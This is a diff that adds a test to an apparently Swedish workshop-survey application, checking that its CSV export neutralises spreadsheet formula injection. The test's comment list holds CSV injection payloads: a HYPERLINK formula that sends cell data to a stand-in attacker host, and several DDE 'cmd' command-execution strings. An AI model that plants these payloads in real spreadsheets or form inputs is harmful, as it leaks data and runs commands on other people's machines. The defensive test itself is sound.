@@ -201,3 +201,28 @@ def test_the_word_summary_holds_the_same_content_as_the_markdown():
     body = "\n".join(p.text for p in document.paragraphs)
     assert "*fet* & <b>" in body and "1 svar. Fördelningen visas först" in body
     assert document.core_properties.title.startswith("Workshopsammanfattning: Workshop 7")
+
+
+HOSTILE_COMMENTS = ['=HYPERLINK("https://angripare.example/?d="&A1;"Klicka här")', "+cmd|' /C calc'!A0",
+                    "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1",
+                    "  =1+1", "vanlig kommentar, 5 = bra", '"citat" och ;semikolon;']
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_are_neutralised():
+    statements = (Statement(id="p1", text="=1+1 är två"), Statement(id="p2", text="Vanligt påstående"))
+    created = dt.datetime(2026, 3, 4, 12, 0, tzinfo=dt.UTC)
+    workshop = Workshop(id=1, number=1, code="ACDEFG", title="Formler", created_at=created,
+                        expires_at=created + dt.timedelta(days=1), statements=statements,
+                        phases={"p1": Phase.revealed, "p2": Phase.revealed})
+    answers = {"p1": [AnonymousAnswer(value=3, comment=c) for c in HOSTILE_COMMENTS],
+               "p2": [AnonymousAnswer(value=v) for v in (1, 2, 5)]}
+    text = answers_csv(workshop, answers)
+    frame = pd.read_csv(io.StringIO(text), keep_default_na=False)  # reopened as a spreadsheet reads it
+    shown = frame[frame["påstående_nr"] == 1]["kommentar"].tolist()
+    for typed in HOSTILE_COMMENTS:
+        expected = typed if not typed.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r")) else "'" + typed
+        assert expected in shown, typed
+    for cell in [*frame["kommentar"], *frame["påstående"], *frame["svar_text"]]:
+        assert not str(cell).startswith(("=", "+", "-", "@", "\t", "\r")), cell
+    assert set(frame["påstående"]) == {"'=1+1 är två", "Vanligt påstående"}
+    assert frame["svar"].dtype.kind == "i" and frame["påstående_nr"].dtype.kind == "i"  # numbers stay numbers
